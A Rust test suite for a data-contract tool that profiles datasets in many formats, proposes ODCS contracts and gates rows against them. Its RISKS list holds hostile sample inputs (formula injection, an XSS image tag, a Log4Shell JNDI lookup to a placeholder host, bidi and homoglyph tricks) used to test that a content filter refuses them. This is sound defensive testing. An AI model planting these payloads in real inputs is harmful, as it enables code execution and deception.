//! Proposals: whatever a source looks like, what is proposed of it is a contract, and lets in what it was proposed from.

use std::path::Path;
use std::sync::Arc;

use arrow::array::{ArrayRef, Decimal128Array, Int64Array, RecordBatch, StringArray, TimestampMicrosecondArray};
use parquet::arrow::ArrowWriter;
use polder_contract::inspect::mask_of_risk;
use polder_contract::{ColumnType, Contract, Gate, GateOptions, Patterns};
use polder_types::{Secret, TableName};
use proptest::prelude::*;

use super::approval::{NoSpill, approved};
use super::cases;
use crate::json::path::escaped;
use crate::{Connection, Proposals, Proposed, ReadOptions, Sample, SampleKey, Stand, Target, WantedColumn, open, sample_compared};

const KEY: [u8; 16] = [9; 16];

pub(super) struct Drafted {
    pub sample: Sample,
    pub proposed: Proposed,
    pub text: String,
    /// None when no column could be proposed.
    pub contract: Option<Contract>,
    pub admitted: usize,
    /// Rows that were refused for what they hold, whatever is proposed of them: their places, and the columns that are told.
    pub risks: Vec<(usize, String)>,
    /// Other rows that were refused: those that break what was proposed.
    pub refused: Vec<String>,
}

fn look(dir: &Path, yaml: &str, dataset: &str) -> Sample {
    let connection = Connection::parse(yaml, "sources/s.yaml").unwrap();
    sample_compared(&connection, dataset, ReadOptions::new(dir), SampleKey::new(KEY)).unwrap()
}

fn propose(proposals: &Proposals, dataset: &str) -> Proposed {
    proposals.of(&Target { id: "i", source: "s", dataset, label: dataset, table: &TableName::new("t").unwrap() }).unwrap()
}

/// The contract with other settings in place of masks: the keys of domains are an installation's.
fn without_masks(text: &str) -> String {
    const MASK: &str = "{property: polder.mask, value: {";
    let mut bare = text.to_owned();
    while let Some(begin) = bare.find(MASK) {
        let end = begin + bare[begin..].find("}}").unwrap() + 2;
        bare.replace_range(begin..end, "{property: bare, value: x}");
    }
    bare
}

/// Samples a dataset, proposes a contract, and holds the source's rows to it.
pub(super) fn draft(dir: &Path, yaml: &str) -> Drafted {
    let connection = Connection::parse(yaml, "sources/s.yaml").unwrap();
    let sample = look(dir, yaml, "d");
    let proposed = propose(&Proposals::new(vec![("d".to_owned(), sample.clone())]), "d");
    let text = proposed.text();
    if !proposed.columns.iter().any(|column| column.stand == Stand::Authorised) {
        return Drafted { sample, proposed, text, contract: None, admitted: 0, risks: Vec::new(), refused: Vec::new() };
    }
    let contract = Contract::parse(&text, "t.odcs.yaml").unwrap_or_else(|problems| panic!("{problems}\n{text}"));
    let approved = approved(Contract::parse(&without_masks(&text), "t.odcs.yaml").unwrap());
    let mut gate = GateOptions::new(Secret::new(vec![7; 32]), Arc::new(NoSpill));
    gate.null_tokens = connection.dataset("d").unwrap().null_tokens.clone();
    gate.decimal_comma = connection.dataset("d").unwrap().decimal_comma;
    let gate = Gate::new(approved, gate).unwrap();
    let columns: Vec<WantedColumn> =
        contract.columns.iter().map(|column| WantedColumn::new(&column.physical_name).of_type(column.ty)).collect();
    let mut reader = open(&connection, "d", &columns, ReadOptions::new(dir)).unwrap();
    let (mut admitted, mut risks, mut refused) = (0, Vec::new(), Vec::new());
    while let Some(batch) = reader.next().unwrap() {
        let checked = gate.check(batch).unwrap();
        admitted += checked.admitted.rows();
        for row in &checked.rejections {
            if row.rule.name().starts_with("content:") {
                risks.push((usize::try_from(row.ordinal).unwrap(), row.column.clone().unwrap()));
            } else {
                refused.push(format!("{:?} {}", row.column, row.rule));
            }
        }
    }
    Drafted { sample, proposed, text, contract: Some(contract), admitted, risks, refused }
}

fn draft_csv(text: &str, keys: &str) -> Drafted {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("f.csv"), text).unwrap();
    draft(dir.path(), &format!("type: csv\npath: .\ndatasets: {{d: {{file: f.csv{keys}}}}}\n"))
}

fn draft_ndjson(text: &str) -> Drafted {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("f.ndjson"), text).unwrap();
    draft(dir.path(), "type: ndjson\npath: .\ndatasets: {d: {file: f.ndjson}}\n")
}

/// A table of a header and rows that a function gives.
fn csv(header: &str, rows: usize, row: impl Fn(usize) -> String) -> String {
    std::iter::once(header.to_owned()).chain((0..rows).map(row)).map(|line| line + "\n").collect()
}

#[test]
fn a_name_that_no_contract_takes_is_a_comment() {
    let drafted = draft_csv("good,\"line\nend\",,\"a\u{7}b\",GOOD,Größe\n1,2,3,4,5,6\n", "");
    let names: Vec<_> = drafted.contract.unwrap().columns.iter().map(|column| column.name.clone()).collect();
    assert_eq!(names, ["good", "Größe"]);
    for line in [
        "      # column 2, \"line\\u000aend\", is left out: its name holds control characters; rename it at the source",
        "      # column 3, \"\", is left out: it has no name; name it at the source",
        "      # column 4, \"a\\u0007b\", is left out: its name holds control characters; rename it at the source",
        "      # column 5, GOOD, is left out: another column has the same name but for its case; rename it at the source",
    ] {
        assert!(drafted.text.lines().any(|found| found == line), "{line}\n{}", drafted.text);
    }
}

#[test]
fn a_draft_has_types_that_hold_what_was_seen() {
    let rows = "big,mixed,local,times,truth,odd\n5000000000,9007199254740993,2013-01-01T00:00:00,2013-01-01,TRUE,1e400\n1,0.5,2013-01-02 00:00:00,2013-01-01T00:00:00Z,false,2\n";
    let drafted = draft_csv(rows, "");
    let types: Vec<_> = drafted.contract.as_ref().unwrap().columns.iter().map(|column| column.ty.to_string()).collect();
    assert_eq!(types, ["int64", "string", "timestamp without zone", "string", "string", "string"]);
    assert_eq!((drafted.admitted, drafted.refused.len()), (2, 0), "{:?}", drafted.refused);
    // A word that the dataset declares as "no value" is none, so the column is not required; and an empty cell is a value there.
    let drafted = draft_csv("a,b\n999,1\n3,\n", ", null: [\"999\"]");
    assert_eq!((drafted.admitted, drafted.refused.len()), (2, 0), "{}{:?}", drafted.text, drafted.refused);
    // JSON numbers among texts, and numbers that no type holds, fit no column.
    let drafted =
        draft_ndjson("{\"a\":1,\"b\":\"x\",\"c\":9007199254740993.5,\"d\":{}}\n{\"a\":\"x\",\"b\":\"2013-01-01\",\"c\":1,\"d\":null}\n");
    assert_eq!(drafted.contract.unwrap().columns.iter().map(|column| column.name.as_str()).collect::<Vec<_>>(), ["b"]);
    assert!(drafted.text.contains("column 1, a, is left out: no type holds all of its values"), "{}", drafted.text);
    assert!(drafted.text.contains("column 4, d, is left out: it is nested"), "{}", drafted.text);
}

/// The corpus of formats: the same rows, and where their columns go by names of their own, these.
#[test]
fn a_draft_of_every_format_has_types_that_hold_its_rows() {
    let plain = ["id", "n", "amount", "day", "seen_at", "flag", "note", "secret"];
    let nested = ["id", "n", "money.amount", "seen.day", "seen.at", "flag", "note", "secret"];
    let xml = ["@id", "n", "money/amount", "seen/day", "seen/@at", "flag", "p:note", "secret"];
    let cases = [
        ("csv", "people.csv", "", plain),
        ("csv", "people-cp1252.csv", "encoding: windows-1252, delimiter: \";\", decimal: \",\"", plain),
        ("json", "people.json", "", plain),
        ("json", "people-nested.json", "records: result.items", nested),
        ("ndjson", "people.ndjson", "", plain),
        ("excel", "people.xlsx", "", plain),
        ("excel", "people.xls", "", plain),
        ("excel", "people.ods", "sheet: people", plain),
        ("avro", "people-snappy.avro", "", plain),
        ("arrow", "people.arrow", "", plain),
        ("arrow", "people-views.arrows", "", plain),
        ("xml", "people.xml", "record: export/people/person", xml),
        ("fixed", "people-characters.txt", "layout: layout-characters.yaml", plain),
        ("fixed", "people-bytes.dat", "layout: layout-bytes.yaml, encoding: windows-1252", plain),
    ];
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus/formats");
    for (source_type, file, keys, names) in cases {
        let keys = if keys.is_empty() { String::new() } else { format!(", {keys}") };
        let drafted = draft(&root, &format!("type: {source_type}\npath: .\ndatasets: {{d: {{file: {file}{keys}}}}}\n"));
        let mut found: Vec<&str> = drafted.sample.columns.iter().map(|column| column.name.as_str()).collect();
        let mut wanted = names.to_vec();
        // What else its objects and elements hold.
        if names == nested {
            wanted.retain(|name| *name != "secret");
            wanted.extend(["money.unit", "secret.deep"]);
        } else if names == xml {
            wanted.retain(|name| *name != "secret");
            wanted.extend(["money", "money/@unit", "secret/deep"]);
        }
        found.sort_unstable();
        wanted.sort_unstable();
        assert_eq!(found, wanted, "{file}");
        let kind = |name: &str| drafted.sample.columns.iter().find(|column| column.name == name).map(|column| column.kind);
        let kinds: Vec<_> = names[..7].iter().map(|name| kind(name).unwrap()).collect();
        use crate::InferredKind::{Boolean, Date, Integer, Number, Text, Timestamp};
        assert_eq!(kinds[1..], [Integer, Number, Date, Timestamp, Boolean, Text], "{file}");
        let note = drafted.sample.columns.iter().find(|column| column.name == names[6]).unwrap();
        assert_eq!((note.profile.rows, note.profile.nulls), (200, 20), "{file}");
        assert_eq!((drafted.sample.records, drafted.sample.whole), (200, true), "{file}");
        assert_eq!((drafted.admitted, drafted.refused.len()), (200, 0), "{file}: {:?}\n{}", drafted.refused, drafted.text);
        assert!(!drafted.text.contains("hidden-"), "{file}: {}", drafted.text);
    }
}

#[test]
fn numbers_with_a_comma_are_profiled_as_numbers_and_addresses_are_not() {
    let rows: String = (0..60).map(|n| format!("{n},5;1.{:03};10.0.0.{}\n", n * 3, n + 1)).collect();
    let drafted = draft_csv(&format!("price;pieces;ip\n{rows}"), ", delimiter: \";\", decimal: \",\"");
    let types: Vec<String> = drafted.sample.columns.iter().map(|column| column.ty.unwrap().to_string()).collect();
    assert_eq!(types, ["float64", "int32", "string"]);
    assert_eq!((drafted.admitted, drafted.refused.len()), (60, 0), "{:?}", drafted.refused);
    assert!(!drafted.sample.columns[0].profile.histogram.is_empty(), "{:?}", drafted.sample.columns[0].profile);
    assert_eq!(drafted.sample.columns[2].profile.personal.map(|found| found.kind.name()), Some("ip_address"));
}

#[test]
fn a_draft_of_a_parquet_file_has_the_types_of_the_file() {
    let moments = TimestampMicrosecondArray::from(vec![0, 1]);
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("id", Arc::new(Int64Array::from(vec![5_000_000_000, 1]))),
        ("price", Arc::new(Decimal128Array::from(vec![150, 275]).with_precision_and_scale(9, 2).unwrap())),
        ("at", Arc::new(moments.clone().with_timezone("UTC"))),
        ("local", Arc::new(moments)),
        ("note\n", Arc::new(StringArray::from(vec!["a", "b"]))),
        ("text", Arc::new(StringArray::from(vec![Some("a"), None]))),
    ];
    let batch = RecordBatch::try_from_iter(columns).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut writer = ArrowWriter::try_new(std::fs::File::create(dir.path().join("f.parquet")).unwrap(), batch.schema(), None).unwrap();
    writer.write(&batch).unwrap();
    writer.close().unwrap();
    let drafted = draft(dir.path(), "type: parquet\npath: .\ndatasets: {d: {file: f.parquet}}\n");
    let types: Vec<_> = drafted.contract.unwrap().columns.iter().map(|column| column.ty.to_string()).collect();
    assert_eq!(types, ["int64", "decimal(9,2)", "timestamp with zone", "timestamp without zone", "string"]);
    assert_eq!((drafted.admitted, drafted.refused.len()), (2, 0), "{:?}", drafted.refused);
}

#[test]
fn what_a_column_holds_shows_in_what_is_proposed() {
    // Postal codes keep their zeros; the key is the column named so; a state has few values, each of them often.
    let text =
        csv("client_no,cp,state,note", 200, |n| format!("{},{:05},{},n{n}", 1000 + n, n % 90, if n % 3 == 0 { "open" } else { "shut" }));
    let drafted = draft_csv(&text, "");
    let lines: Vec<&str> = drafted.text.lines().skip_while(|line| !line.contains("properties:")).skip(1).map(str::trim).collect();
    assert_eq!(
        lines,
        [
            "- {name: client_no, logicalType: integer, required: true, primaryKey: true, primaryKeyPosition: 1}",
            "- {name: cp, logicalType: string, required: true}",
            "- {name: state, logicalType: string, required: true,",
            "quality: [{type: library, metric: invalidValues, mustBe: 0, arguments: {validValues: [shut, open]}}]}",
            "- {name: note, logicalType: string, required: true}",
        ]
    );
    assert_eq!((drafted.admitted, drafted.refused.len()), (200, 0), "{:?}", drafted.refused);
    // Of a value that is rare, and of values that may not be all, no list is written.
    let rare = csv("id,state", 200, |n| format!("{n},{}", if n == 7 { "XKCD-RARE" } else { "open" }));
    let drafted = draft_csv(&rare, "");
    assert!(!drafted.text.contains("open") && !drafted.text.contains("RARE"), "{}", drafted.text);
    assert!(!format!("{:?}", drafted.sample).contains("RARE"), "nor is it kept");
    let long = csv("id,state", 10_100, |n| format!("{n},{}", if n % 2 == 0 { "open" } else { "shut" }));
    let drafted = draft_csv(&long, "");
    assert!(!drafted.sample.whole && !drafted.text.contains("validValues"), "{}", drafted.text);
    assert_eq!(drafted.sample.records, 10_000);
}

#[test]
fn two_columns_are_a_key_where_no_single_one_is() {
    let text = csv("order_id,line_no,sku,amount", 300, |n| format!("{},{},A{},{}", n / 3, n % 3, n % 7, n % 5));
    let drafted = draft_csv(&text, "");
    let key: Vec<_> = drafted.contract.unwrap().primary_key().into_iter().map(|place| drafted.sample.columns[place].name.clone()).collect();
    assert_eq!(key, ["order_id", "line_no"]);
    // Not where one does, nor where neither is named so.
    let drafted = draft_csv(&csv("a,b,c", 300, |n| format!("x,{},{}", n / 3, n % 3)), "");
    assert!(drafted.contract.unwrap().primary_key().is_empty(), "{}", drafted.text);
}

/// What is proposed of the table `d` of an SQLite database, which has to be read as a contract, and the lines that say what loads do.
fn settings_of(columns: &str, rows: u32, values: &str, keys: &str) -> (String, Vec<String>) {
    let dir = tempfile::tempdir().unwrap();
    let sql = format!(
        "create table d ({columns});
         insert into d with recursive n(i) as (select 1 union all select i + 1 from n where i < {rows}) select {values} from n;"
    );
    rusqlite::Connection::open(dir.path().join("d.db")).unwrap().execute_batch(&sql).unwrap();
    let yaml = format!("type: sqlite\npath: d.db\ntables: [d]\n{keys}");
    let text = propose(&Proposals::new(vec![("d".to_owned(), look(dir.path(), &yaml, "d"))]), "d").text();
    Contract::parse(&without_masks(&text), "t.odcs.yaml").unwrap_or_else(|problems| panic!("{problems}\n{text}"));
    let lines = text.lines().map(str::trim).filter(|line| line.starts_with("- {property: polder.d"));
    let settings = lines.map(|line| line.trim_start_matches("- ").to_owned()).collect();
    (text, settings)
}

#[test]
fn what_is_proposed_of_a_database_can_be_loaded_again_and_again() {
    const MERGE: [&str; 2] = ["{property: polder.disposition, value: merge}", "{property: polder.deletes, value: key_snapshot}"];
    const REPLACE: [&str; 1] = ["{property: polder.disposition, value: replace}"];
    // By the key, beside which nothing may be unique.
    let keyed = |keys: &str| settings_of("id integer, code text, beds integer", 50, "i, 'x' || i, i % 7", keys);
    let (text, settings) = keyed("");
    assert_eq!(settings, MERGE, "{text}");
    assert!(text.contains("primaryKey: true") && !text.contains("unique:"), "{text}");
    assert_eq!(keyed("datasets: {d: {cursor: id}}\n").1, MERGE);
    // Without a key all is read anew, but where a cursor tells what is new.
    let keyless = |keys: &str| settings_of("beds integer, rooms integer", 50, "i % 7, i % 5", keys);
    assert_eq!(keyless("").1, REPLACE);
    assert_eq!(keyless("datasets: {d: {cursor: beds}}\n").1, [""; 0]);
    // A key that was not seen in all records may be none: of two rows that have it a merge would keep one.
    let (text, settings) = settings_of("id integer", 10_001, "i", "");
    assert_eq!(settings, REPLACE, "{text}");
    assert!(text.contains("# The key was seen in these records only.") && text.contains("primaryKey: true"), "{text}");
    // Files are added, as ever.
    assert!(!draft_csv("id,beds\n1,2\n2,2\n", "").text.contains("polder.disposition"));
}

#[test]
fn columns_join_where_values_and_names_say_so() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("customers.csv"), csv("id,code,town", 500, |n| format!("{},K{:04},t{}", n + 1, n * 7, n % 9))).unwrap();
    let order = |n: usize| format!("{},{},K{:04},{}", n + 1, n % 400 + 1, n % 300 * 7, n % 40 + 1);
    std::fs::write(dir.path().join("orders.csv"), csv("id,customer_id,ref,age", 1000, order)).unwrap();
    let yaml = "type: csv\npath: .\ndatasets: {customers: {file: customers.csv}, orders: {file: orders.csv}}\n";
    let samples: Vec<(String, Sample)> =
        ["customers", "orders"].map(|dataset| (dataset.to_owned(), look(dir.path(), yaml, dataset))).into();
    let proposals = Proposals::new(samples);
    let joins: Vec<Option<String>> = propose(&proposals, "orders").columns.into_iter().map(|column| column.joins).collect();
    // `age` lies within the customers' numbers, too, and its name says nothing of them; nor does one `id` join the other.
    let expected = [
        None,
        Some("customers.id: 100% of its 400 values stand there".to_owned()),
        Some("customers.code: 100% of its 300 values stand there".to_owned()),
        None,
    ];
    let spoken = |found: &Option<String>| found.as_deref().map(|text| text.split(" of its").next().unwrap_or_default().to_owned());
    assert_eq!(joins.iter().map(spoken).collect::<Vec<_>>(), expected.iter().map(spoken).collect::<Vec<_>>());
    assert!(propose(&proposals, "customers").columns.iter().all(|column| column.joins.is_none()));
    // Under another key nothing can be compared.
    let connection = Connection::parse(yaml, "sources/s.yaml").unwrap();
    let other = sample_compared(&connection, "customers", ReadOptions::new(dir.path()), SampleKey::new([1; 16])).unwrap();
    let mixed = Proposals::new(vec![("customers".to_owned(), other), ("orders".to_owned(), look(dir.path(), yaml, "orders"))]);
    assert!(propose(&mixed, "orders").columns.iter().all(|column| column.joins.is_none()));
}

#[test]
fn a_name_that_is_personal_data_is_not_written() {
    let lines = (0..30).map(|n| format!("{{\"id\":{n},\"planted@exemple.fr\":{n}}}\n"));
    let drafted = draft_ndjson(&lines.collect::<String>());
    assert!(
        !drafted.text.contains("planted") && drafted.text.contains("# column 2 is left out: its name is itself personal data"),
        "{}",
        drafted.text
    );
    assert_eq!(drafted.proposed.columns[1].name, "column 2");
}

#[test]
fn names_that_are_values_are_noticed() {
    for (text, by_values) in [
        ("id,age\n1,36\n2,40\n", false),
        ("7,Ada,36\n8,Bob,40\n", true),
        ("2013-01-01,12.5\n2013-01-02,13\n", true),
        ("country,2010,2011\nNL,1,2\n", true),
        ("name,town\nAda,Paris\n", false),
        ("total,2011\n1,2\n", false),
    ] {
        assert_eq!(draft_csv(text, "").sample.is_named_by_values(), by_values, "{text}");
    }
    assert!(!draft_csv("7,Ada,36\n8,Bob,40\n", ", header: false").sample.is_named_by_values());
}

#[test]
fn a_table_may_be_called_what_yaml_takes_for_a_value() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("f.csv"), csv("amount", 50, |row| format!("{row}.5"))).unwrap();
    let sample = look(dir.path(), "type: csv\npath: .\ndatasets: {d: {file: f.csv}}\n", "d");
    let proposals = Proposals::new(vec![("d".to_owned(), sample)]);
    for name in ["n", "y", "no", "on", "null", "true", "inf"] {
        let table = TableName::new(name).unwrap();
        let text = proposals.of(&Target { id: "i", source: "s", dataset: "d", label: "d", table: &table }).unwrap().text();
        let contract = Contract::parse(&text, "t.odcs.yaml").unwrap_or_else(|problems| panic!("{problems}\n{text}"));
        assert_eq!(contract.table, table, "{text}");
    }
}

fn name() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zA-Z]{1,3}",
        "[a-c:#{}\\[\\],&*!|>'\"%@`\\\\ ?~-]{0,6}",
        "\\PC{0,5}",
        any::<String>(),
        prop::sample::select(vec![
            "null",
            "true",
            "no",
            "1",
            "1.5",
            "~",
            "2013-01-01",
            "\u{85}",
            "\u{2028}",
            "\u{feff}x",
            "\u{202e}x",
            "a\nb",
            "a\r\nb",
            "a\tb",
            "\u{fffe}",
            "\u{10ffff}",
            "{",
            "- a",
            "# a"
        ])
        .prop_map(str::to_owned),
    ]
}

/// Cells that look like something else, and are no risk.
const TRICKY: &[&str] = &[
    "",
    "NA",
    "null",
    "None",
    "-",
    "\\N",
    "nan",
    "true",
    "false",
    "TRUE",
    "0",
    "-0",
    "1",
    "-7",
    "007",
    "2147483648",
    "-2147483649",
    "5000000000",
    "9007199254740993",
    "9223372036854775807",
    "9223372036854775808",
    "1.5",
    ".5",
    "5.",
    "1e5",
    "1e400",
    "1e-400",
    "1e23",
    "9007199254740993.0",
    "2013-01-02",
    "2013-02-30",
    "0000-01-01",
    "2013-01-02T03:04:05Z",
    "2013-01-02 03:04:05",
    "0001-01-01T00:00:00+14:00",
    "2013-01-02T25:00:00Z",
    "12:30:00",
    "é",
    "a\nb",
    "\"",
    " ",
    "x,y",
];

/// Cells that no contract lets in as they are, one at least of each kind that is judged for a value.
const RISKS: &[&str] = &[
    "=1+1",
    "@SUM(A1:A9)",
    "ring\u{7}",
    "access\u{202e}level",
    "ad\u{200b}min",
    "p\u{430}yp\u{430}l.com",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://a.example/x}",
];

fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => prop::sample::select(TRICKY).prop_map(str::to_owned),
        1 => prop::sample::select(RISKS).prop_map(str::to_owned),
        1 => "[ -~é\\n]{0,8}",
        1 => any::<i64>().prop_map(|n| n.to_string()),
        1 => any::<f64>().prop_map(|x| format!("{x:?}")),
    ]
}

/// Whether a cell is a risk, by the definitions that inspection must agree with.
fn is_risk(cell: &str) -> bool {
    mask_of_risk(Patterns::builtin().unwrap(), cell.as_bytes()).unwrap().is_some()
}

/// Holds a load to what its generator put in: refused for their content are the rows with a risk in a column that comes in as a text, and
/// no others; the column that is told holds one. All other rows are admitted. A name is what the source calls a column.
#[track_caller]
fn refused_are_the_risks_alone(drafted: &Drafted, names: &[String], rows: &[Vec<String>]) {
    assert_eq!(drafted.refused, [] as [&str; 0], "{}", drafted.text);
    let Some(contract) = &drafted.contract else {
        return assert!(drafted.risks.is_empty() && drafted.admitted == 0);
    };
    let texts: Vec<(&str, usize)> = contract
        .columns
        .iter()
        .filter(|column| column.ty == ColumnType::String)
        .filter_map(|column| Some((column.name.as_str(), names.iter().position(|name| *name == column.physical_name)?)))
        .collect();
    for (row, cells) in rows.iter().enumerate() {
        let held: Vec<&str> = texts.iter().filter(|(_, place)| is_risk(&cells[*place])).map(|(column, _)| *column).collect();
        let told: Vec<&str> = drafted.risks.iter().filter(|(place, _)| *place == row).map(|(_, column)| column.as_str()).collect();
        assert_eq!(told.len(), usize::from(!held.is_empty()), "row {row}: told of {told:?}, risks in {held:?}\n{}", drafted.text);
        assert!(told.iter().all(|column| held.contains(column)), "row {row}: told of {told:?}, risks in {held:?}\n{}", drafted.text);
    }
    assert_eq!(drafted.admitted + drafted.risks.len(), rows.len(), "{}", drafted.text);
}

#[test]
fn what_the_generator_calls_a_risk_is_one_and_nothing_else_is() {
    assert_eq!(RISKS.iter().filter(|cell| !is_risk(cell)).collect::<Vec<_>>(), [] as [&&str; 0]);
    assert_eq!(TRICKY.iter().filter(|cell| is_risk(cell)).collect::<Vec<_>>(), [] as [&&str; 0]);
}

#[test]
fn rows_with_a_risk_are_refused_and_no_others() {
    let names = ["id", "note", "remark"].map(str::to_owned);
    let risk = |n: usize, every: usize, at: usize, else_: &str| {
        if n % every == at { RISKS[n / every % RISKS.len()].to_owned() } else { format!("{else_} {n}") }
    };
    let rows: Vec<Vec<String>> = (0..100).map(|n| vec![n.to_string(), risk(n, 10, 3, "plain"), risk(n, 25, 13, "also plain")]).collect();
    let risky: Vec<usize> = (0..100).filter(|n| n % 10 == 3 || n % 25 == 13).collect();
    let lines = rows.iter().map(|row| row.iter().map(|cell| csv_field(cell, true)).collect::<Vec<_>>().join(",") + "\n");
    let drafted = draft_csv(&("id,note,remark\n".to_owned() + &lines.collect::<String>()), "");
    refused_are_the_risks_alone(&drafted, &names, &rows);
    let mut told: Vec<usize> = drafted.risks.iter().map(|(row, _)| *row).collect();
    told.sort_unstable();
    assert_eq!(told, risky);
    assert_eq!(drafted.admitted, 100 - risky.len());
}

/// A table whose columns hold few kinds of cells each, so that they have a type.
fn table(width: usize) -> impl Strategy<Value = (Vec<String>, Vec<Vec<String>>)> {
    let column = || prop::collection::vec(cell(), 1..3);
    (
        prop::collection::vec(name(), width),
        prop::collection::vec(column(), width),
        prop::collection::vec(prop::collection::vec(any::<prop::sample::Index>(), width), 0..6),
    )
        .prop_map(|(names, columns, rows)| {
            let rows = rows
                .into_iter()
                .map(|row| row.iter().zip(&columns).map(|(at, cells)| cells[at.index(cells.len())].clone()).collect())
                .collect();
            (names, rows)
        })
}

fn csv_field(text: &str, quote: bool) -> String {
    if quote || text.contains(['"', ',', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
}

fn json_value(text: &str, as_text: bool) -> String {
    // A line end around a number would end the line.
    let plain = text.trim() == text && serde_json::from_str::<serde_json::Value>(text).is_ok_and(|value| !value.is_string());
    if plain && !as_text { text.to_owned() } else { serde_json::to_string(text).unwrap() }
}

proptest! {
    #![proptest_config(cases(300))]

    #[test]
    fn a_draft_of_any_csv_reads_and_admits_what_was_sampled_but_its_risks((mut names, rows) in (2usize..6).prop_flat_map(table), quoted in any::<u64>(), nulls in prop::sample::select(vec!["", ", null: [NA]", ", null: [\"\", \"1\"]", ", null: []"])) {
        names.sort();
        names.dedup();
        prop_assume!(names.len() >= 2);
        let mut places = 0u32;
        let mut field = |text: &String| {
            places += 1;
            csv_field(text, quoted >> (places % 64) & 1 == 1)
        };
        let mut lines: Vec<String> = vec![names.iter().map(|name| csv_field(name, true)).collect::<Vec<_>>().join(",")];
        lines.extend(rows.iter().map(|row| row.iter().take(names.len()).map(&mut field).collect::<Vec<_>>().join(",")));
        let drafted = draft_csv(&(lines.join("\n") + "\n"), nulls);
        refused_are_the_risks_alone(&drafted, &names, &rows);
        prop_assert_eq!(drafted.proposed.columns.len(), names.len());
        prop_assert!(drafted.text.matches("\n      ").count() >= names.len(), "a line a column: {}", drafted.text);
        prop_assert_eq!(drafted.sample.columns.len(), names.len());
    }

    #[test]
    fn a_draft_of_any_ndjson_reads_and_admits_what_was_sampled_but_its_risks((mut names, rows) in (1usize..6).prop_flat_map(table), texts in any::<u64>()) {
        names.sort();
        names.dedup();
        let line = |row: &Vec<String>| {
            let pairs = names.iter().zip(row).enumerate().map(|(place, (name, cell))| format!("{}:{}", serde_json::to_string(name).unwrap(), json_value(cell, texts >> place & 1 == 1)));
            format!("{{{}}}\n", pairs.collect::<Vec<_>>().join(","))
        };
        let drafted = draft_ndjson(&rows.iter().map(line).collect::<String>());
        // A column is named by the path to it.
        let paths: Vec<String> = names.iter().map(|name| escaped(name)).collect();
        refused_are_the_risks_alone(&drafted, &paths, &rows);
    }
}
